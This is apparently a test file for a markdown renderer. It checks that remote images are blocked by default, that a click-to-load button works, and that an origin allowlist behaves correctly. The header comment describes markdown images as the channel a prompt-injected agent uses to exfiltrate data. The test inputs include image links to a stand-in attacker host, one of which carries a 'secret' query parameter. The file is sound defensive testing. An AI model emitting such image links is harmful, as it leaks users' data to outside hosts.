// @vitest-environment jsdom
// Remote images are not fetched by default (issue 37, item 10): `![x](//evil.example/x.png)` is
// the channel a prompt-injected agent sends what it read through. A blocked image shows its alt
// text and a button; the app allows origins with `imageOrigins`.
import { describe, expect, it } from "vitest";
import { createMarkdownStream, markdownToHtml, MarkdownError, renderMarkdown, type MarkdownOptions } from "../../src/markdown/index.js";

const drawn = (text: string, options: MarkdownOptions = {}): HTMLElement => {
  const element = document.createElement("div");
  renderMarkdown(element, text, { highlighter: false, ...options });
  return element;
};

const REMOTE = [
  "![x](//evil.example/x.png)",
  "![x](https://evil.example/log?secret=abc)",
  "![x](http://evil.example/x.png)",
  "![x](HTTPS://EVIL.EXAMPLE/x.png)",
  "![x][ref]\n\n[ref]: https://evil.example/x.png",
  "[![x](https://evil.example/badge.svg)](https://example.com)",
];

describe("remote images", () => {
  it("are not drawn by default: no <img>, the alt text and a Load image button instead", () => {
    for (const text of REMOTE) {
      const element = drawn(text);
      expect(element.querySelector("img"), text).toBeNull();
      const blocked = element.querySelector(".tl-image-blocked")!;
      expect(blocked.querySelector(".tl-image-alt")!.textContent, text).toBe("x");
      expect(blocked.querySelector("button")!.textContent).toBe("Load image");
      expect(blocked.querySelector("button")!.title).toBe("Load image from evil.example");
    }
  });

  it("nor while streaming, nor in the server's markup", () => {
    for (const text of REMOTE) {
      const element = document.createElement("div");
      const stream = createMarkdownStream(element, { highlighter: false });
      for (const char of text) {
        stream.append(char);
        expect(element.querySelector("img"), text).toBeNull();
      }
      stream.setStreaming(false);
      expect(element.querySelector("img")).toBeNull();
      expect(markdownToHtml(text)).not.toContain("<img");
      expect(markdownToHtml(text)).toContain('<button type="button" class="tl-image-load" title="Load image from evil.example">Load image</button>');
    }
  });

  it("the button draws the image the reader asked for, in place", () => {
    const element = drawn("Chart: ![Q3 sales](https://charts.example/q3.png \"Q3\") below");
    const button = element.querySelector<HTMLButtonElement>(".tl-image-load")!;
    const host = element.querySelector(".tl-image-blocked")!;
    button.click();
    const image = element.querySelector("img")!;
    expect(image.getAttribute("src")).toBe("https://charts.example/q3.png");
    expect(image.alt).toBe("Q3 sales");
    expect(image.title).toBe("Q3");
    expect(image.parentElement).toBe(host);
    expect(host.className).toBe("tl-image-loaded");
  });

  it("with an app image component, the component is mounted only once the reader loads the image", () => {
    const mounted: string[] = [];
    const element = drawn("![x](https://evil.example/x.png)", {
      components: {
        image: (host, props) => {
          mounted.push(props.src);
          host.textContent = `image ${props.alt}`;
          return { update: () => {}, destroy: () => {} };
        },
      },
    });
    expect(mounted).toEqual([]);
    element.querySelector<HTMLButtonElement>(".tl-image-load")!.click();
    expect(mounted).toEqual(["https://evil.example/x.png"]);
  });

  it("the page's own images (relative URLs) are drawn", () => {
    for (const src of ["/static/logo.png", "logo.png", "./img/a.png", "?v=1"]) {
      expect(drawn(`![logo](${src})`).querySelector("img")?.getAttribute("src")).toBe(src);
    }
    // A backslash is percent-encoded by markdown-it: `/\host` stays a path on the page's origin.
    expect(drawn("![x](/\\evil.example/x.png)").querySelector("img")?.getAttribute("src")).toBe("/%5Cevil.example/x.png");
  });

  it("imageOrigins allows exact origins, a host's subdomains, or everything", () => {
    const src = (text: string, imageOrigins: readonly string[]) => drawn(text, { imageOrigins }).querySelector("img")?.getAttribute("src") ?? null;
    expect(src("![x](https://cdn.example.com/a.png)", ["https://cdn.example.com"])).toBe("https://cdn.example.com/a.png");
    expect(src("![x](https://cdn.example.com:8443/a.png)", ["https://cdn.example.com"])).toBeNull();
    expect(src("![x](http://cdn.example.com/a.png)", ["https://cdn.example.com"])).toBeNull();
    expect(src("![x](https://img.cdn.example.com/a.png)", ["https://*.example.com"])).toBe("https://img.cdn.example.com/a.png");
    expect(src("![x](https://example.com/a.png)", ["https://*.example.com"])).toBeNull();
    expect(src("![x](https://evil-example.com/a.png)", ["https://*.example.com"])).toBeNull();
    expect(src("![x](//anywhere.example/a.png)", ["*"])).toBe("//anywhere.example/a.png");
  });

  it("a wrong imageOrigins entry is a typed error naming the option", () => {
    for (const imageOrigins of [["cdn.example.com"], ["https://cdn.example.com/path"], [42], "https://cdn.example.com"]) {
      let error: unknown;
      try {
        createMarkdownStream(document.createElement("div"), { imageOrigins: imageOrigins as never });
      } catch (caught) {
        error = caught;
      }
      expect(error, JSON.stringify(imageOrigins)).toBeInstanceOf(MarkdownError);
      expect(error).toMatchObject({ code: "MARKDOWN_BAD_OPTION", received: { option: "imageOrigins" } });
    }
  });
});
